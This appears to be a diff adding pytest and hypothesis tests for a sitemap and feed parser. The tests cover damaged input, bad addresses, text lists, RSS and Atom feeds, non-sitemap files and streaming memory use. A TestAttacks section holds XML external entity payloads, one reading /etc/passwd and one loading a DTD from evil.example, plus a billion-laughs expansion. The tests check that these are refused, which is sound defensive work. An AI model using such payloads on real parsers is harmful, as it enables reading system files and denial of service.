@@ -1,8 +1,11 @@
 """Sitemaps of every kind and in every state, read from their bytes alone."""
 
 import gzip
+import tracemalloc
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from contentbot.discovery.sitemaps import PageEntry, Rejected, SitemapEntry, read_sitemap
 from contentbot.errors import NotASitemap
@@ -184,3 +187,231 @@ class TestXml:
         assert (
             pages(b"<?xml version='1.0'?>" + ONE + b"\n<?xml version='1.0'?>" + ONE) == ["https://shop.example/tea"] * 2
         )
+
+
+class TestDamage:
+    """A damaged place costs what stands there; that something is missing is told."""
+
+    def test_a_list_that_breaks_off_loses_only_the_entry_in_the_middle(self) -> None:
+        body = urlset("/a", "/b", "/category")
+        entries = read(body[: body.index("egory")])
+        assert entries == [
+            PageEntry("https://shop.example/a"),
+            PageEntry("https://shop.example/b"),
+            Rejected("", "truncated", incomplete=True),
+        ]
+
+    @pytest.mark.parametrize("cut", range(len("<urlset><url><loc>/a</loc></url>"), len(ONE)))
+    def test_wherever_it_breaks_off_it_is_told(self, cut: int) -> None:
+        entries = read(ONE[:cut])
+        assert isinstance(entries[-1], Rejected)
+        assert entries[-1].incomplete
+
+    def test_a_missing_end_tag_mixes_no_entries(self) -> None:
+        body = "<urlset><url><loc>/a</loc><url><loc>/b</loc><lastmod>2026</lastmod></url></urlset>"
+        assert read(body)[:2] == [PageEntry("https://shop.example/a"), PageEntry("https://shop.example/b", "2026")]
+        assert any(isinstance(entry, Rejected) and entry.incomplete for entry in read(body))
+
+    def test_markup_inside_an_address_costs_that_entry(self) -> None:
+        assert pages(urlset("/a", "/<b>bold</b>", "/c")) == ["https://shop.example/a", "https://shop.example/c"]
+        assert rejections(urlset("/a", "/<b>bold</b>", "/c")) == [("/bold", "markup")]
+
+    @pytest.mark.parametrize("sign", ["<", "< ", "<3", "&", "& ", "&;", "&#", "&nosuch;", "]]"])
+    def test_a_bare_sign_stops_nothing(self, sign: str) -> None:
+        assert pages(urlset(f"/?q={sign}x", "/b"))[-1] == "https://shop.example/b"
+
+    def test_control_characters_are_left_out(self) -> None:
+        assert read(urlset("/a\x0b\x00b").encode()) == [PageEntry("https://shop.example/ab")]
+
+    @given(position=st.integers(0, 400), junk=st.binary(min_size=1, max_size=20))
+    def test_no_damage_raises_or_invents_a_host(self, position: int, junk: bytes) -> None:
+        body = urlset(*(f"https://shop.example/{number}" for number in range(5))).encode()
+        damaged = body[:position] + junk + body[position:]
+        try:
+            entries = read(damaged)
+        except NotASitemap:
+            return
+        assert sum(isinstance(entry, PageEntry) for entry in entries) <= 6
+
+    @given(st.binary(max_size=300))
+    def test_no_bytes_raise_anything_else(self, body: bytes) -> None:
+        for prefix in (b"", b"<urlset>", b"<urlset><url><loc>", b"\x1f\x8b\x08", b"https://shop.example/\n"):
+            try:
+                read(prefix + body)
+            except NotASitemap:
+                continue
+
+
+class TestAddresses:
+    @pytest.mark.parametrize(
+        ("loc", "reason"),
+        [
+            ("", "empty"),
+            (" \n ", "empty"),
+            ("mailto:tea@shop.example", "not_http"),
+            ("javascript:void(0)", "not_http"),
+            ("ftp://shop.example/a", "not_http"),
+            ("https://", "not_a_url"),
+            ("https://[::1", "not_a_url"),
+            ("https://shop.example:port/", "not_a_url"),
+            ("three words here", "not_a_url"),
+            ("https://shop.example/a https://shop.example/b", "not_a_url"),
+            ("https://shop.example/" + "x" * 9000, "too_long"),
+        ],
+    )
+    def test_what_is_no_address_is_counted_and_costs_nothing_else(self, loc: str, reason: str) -> None:
+        assert pages(urlset("/before", loc, "/after")) == ["https://shop.example/before", "https://shop.example/after"]
+        assert rejections(urlset(loc)) == [(loc.strip()[:200], reason)]
+
+    def test_an_entry_without_address_is_counted(self) -> None:
+        assert rejections("<urlset><url><lastmod>2026</lastmod></url></urlset>") == [("", "empty")]
+
+    def test_spaces_and_breaks_inside_an_address_are_read_as_browsers_do(self) -> None:
+        assert pages(urlset("https://shop.example/a b", "https://shop.example/long\n   er")) == [
+            "https://shop.example/a%20b",
+            "https://shop.example/longer",
+        ]
+
+
+class TestAttacks:
+    @pytest.mark.parametrize(
+        "doctype",
+        [
+            '<!DOCTYPE urlset [<!ENTITY who SYSTEM "file:///etc/passwd">]>',
+            '<!DOCTYPE urlset [<!ENTITY % more SYSTEM "http://evil.example/x.dtd"> %more;]>',
+            '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;">]>',
+        ],
+    )
+    def test_a_file_that_declares_entities_is_refused(self, doctype: str) -> None:
+        assert refusal(doctype + "<urlset><url><loc>/&who;&lol2;</loc></url></urlset>") == "declares_entities"
+
+    def test_a_document_type_without_entities_is_passed_over(self) -> None:
+        doctype = '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://evil.example/rss.dtd">'
+        body = f"{doctype}<rss version='0.91'><channel><item><link>/a</link></item></channel></rss>"
+        assert read(body) == [PageEntry("https://shop.example/a")]
+
+    def test_an_entity_that_nobody_declared_is_text(self) -> None:
+        assert pages(urlset("/a?x=1&who;")) == ["https://shop.example/a?x=1&who;"]
+
+    @pytest.mark.parametrize("opened", ["<a>", "<url>", "<url><loc>", "<urlset>"])
+    def test_endless_nesting_ends(self, opened: str) -> None:
+        assert any(isinstance(entry, Rejected) and entry.incomplete for entry in read("<urlset>" + opened * 5000))
+
+    @pytest.mark.parametrize("sign", ["<", "&", "&#", "]", "<!--", "<![CDATA[", " a", "="])
+    @pytest.mark.parametrize("start", [">", " "])
+    def test_repeated_signs_take_linear_time(self, start: str, sign: str) -> None:
+        entries = read(f"<urlset{start}{sign * 100_000}")
+        assert isinstance(entries[-1], Rejected)
+
+
+class TestText:
+    def test_addresses_and_junk_are_told_apart_line_by_line(self) -> None:
+        body = "# list\r\nhttps://shop.example/a\r\n\r\n  https://shop.example/b \nOops\n/c\r"
+        assert read(body) == [
+            PageEntry("https://shop.example/a"),
+            PageEntry("https://shop.example/b"),
+            Rejected("Oops", "not_a_url"),
+            PageEntry("https://shop.example/c"),
+        ]
+
+    def test_it_may_be_compressed(self) -> None:
+        assert pages(gzip.compress(b"https://shop.example/a\n")) == ["https://shop.example/a"]
+
+    def test_junk_in_front_is_reported_once_there_is_an_address(self) -> None:
+        assert read("URL\nhttps://shop.example/a\nhttps://shop.example/b") == [
+            Rejected("URL", "not_a_url"),
+            PageEntry("https://shop.example/a"),
+            PageEntry("https://shop.example/b"),
+        ]
+
+    def test_prose_with_an_address_in_it_is_no_complete_list(self) -> None:
+        entries = read("Access denied.\nPlease write to\nhttps://guard.example/help\n")
+        assert entries[-1] == Rejected("", "mostly_junk", incomplete=True)
+
+    def test_an_endless_line_is_cut(self) -> None:
+        entries = read(b"https://shop.example/" + b"x" * 500_000 + b"\nhttps://shop.example/b")
+        assert entries[1:] == [PageEntry("https://shop.example/b")]
+        assert isinstance(entries[0], Rejected)
+        assert (len(entries[0].value), entries[0].reason) == (200, "too_long")
+
+
+class TestFeeds:
+    @pytest.mark.parametrize(
+        "body",
+        [
+            """<rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom"><channel><link>https://shop.example/</link>
+               <atom:link rel="self" href="https://shop.example/feed"/><image><url>/logo.png</url></image>
+               <item><title>Tea</title><link>https://shop.example/tea</link><guid>https://shop.example/?p=1</guid>
+               <pubDate>Mon, 02 Mar 2026 10:00:00 GMT</pubDate></item></channel></rss>""",
+            """<rss version="2.0"><channel><item><guid> https://shop.example/tea </guid>
+               <pubDate>Mon, 02 Mar 2026 10:00:00 GMT</pubDate></item></channel></rss>""",
+            """<rss version="2.0" xmlns:f="http://rssnamespace.org/feedburner/ext/1.0"><channel><item>
+               <link>https://counter.example/~r/1</link><f:origLink>https://shop.example/tea</f:origLink>
+               <pubDate>Mon, 02 Mar 2026 10:00:00 GMT</pubDate></item></channel></rss>""",
+            """<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
+               xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><link>https://shop.example/</link></channel>
+               <item><link>https://shop.example/tea</link><dc:date>Mon, 02 Mar 2026 10:00:00 GMT</dc:date></item>
+               </rdf:RDF>""",
+            """<feed xmlns="http://www.w3.org/2005/Atom"><link href="https://shop.example/"/><entry><id>tag:1</id>
+               <link rel="enclosure" href="/tea.mp3"/><link rel="alternate" href="https://shop.example/tea"/>
+               <source><link href="https://other.example/"/><updated>2001</updated></source>
+               <published>2020</published><updated>Mon, 02 Mar 2026 10:00:00 GMT</updated></entry></feed>""",
+        ],
+        ids=["rss2", "permalink", "feedburner", "rss1", "atom"],
+    )
+    def test_every_kind_lists_its_entries_with_their_dates(self, body: str) -> None:
+        assert read(body) == [PageEntry("https://shop.example/tea", "Mon, 02 Mar 2026 10:00:00 GMT")]
+
+    def test_a_guid_that_is_no_address_is_none(self) -> None:
+        body = '<rss><channel><item><guid isPermaLink="false">https://shop.example/?p=1</guid></item></channel></rss>'
+        assert read(body) == [Rejected("", "empty")]
+
+    def test_relative_links_start_from_xml_base(self) -> None:
+        body = """<feed xmlns="http://www.w3.org/2005/Atom" xml:base="/en/"><entry xml:base="teas/"><link href="green"/>
+            </entry><entry><link href="black"/></entry></feed>"""
+        assert pages(body) == ["https://shop.example/en/teas/green", "https://shop.example/en/black"]
+
+
+class TestWhatIsNone:
+    @pytest.mark.parametrize(
+        ("body", "reason"),
+        [
+            (b"", "empty"),
+            (b" \r\n\t", "empty"),
+            (gzip.compress(b""), "empty"),
+            (b"<!DOCTYPE html><title>Denied</title>", "html"),
+            (b"<!-- urlset --><html><body><h1>404</h1></body></html>", "html"),
+            (b"<html><svg><rdf:RDF></rdf:RDF></svg></html>", "html"),
+            (b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'/>", "html"),
+            (b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>", "unknown_root"),
+            (b"<Error><Code>AccessDenied</Code></Error>", "unknown_root"),
+            (b"%PDF-1.7\n\x00\x01\x02", "binary"),
+            (b"PK\x03\x04rest", "binary"),
+            (b"\x89PNG\r\n\x1a\n\x00\x00", "binary"),
+            (b'{"error": "not found"}', "no_addresses"),
+            (b"User-agent: *\nDisallow: /\nSitemap: https://shop.example/s.xml\n", "no_addresses"),
+            (b"404 page not found\n", "no_addresses"),
+        ],
+    )
+    def test_another_kind_of_file_is_refused_with_its_reason(self, body: bytes, reason: str) -> None:
+        assert refusal(body) == reason
+
+
+class TestStreaming:
+    def test_the_first_entry_comes_before_the_rest_is_inflated(self) -> None:
+        # everything behind the first hundred kilobytes is broken: who reads ahead fails on it
+        body = gzip.compress(urlset(*(f"https://shop.example/{number * 7919}" for number in range(100_000))).encode())
+        entries = read_sitemap(body[:50_000] + b"\xff" * 50_000, URL, max_bytes=1 << 30)
+        assert next(entries) == PageEntry("https://shop.example/0")
+
+    def test_memory_does_not_grow_with_the_list(self) -> None:
+        def peak(count: int) -> int:
+            body = gzip.compress(urlset(*(f"https://shop.example/{number}" for number in range(count))).encode(), 1)
+            tracemalloc.start()
+            try:
+                assert sum(1 for _ in read_sitemap(body, URL, max_bytes=1 << 30)) == count
+                return tracemalloc.get_traced_memory()[1]
+            finally:
+                tracemalloc.stop()
+
+        assert peak(40_000) < 2 * peak(4_000)
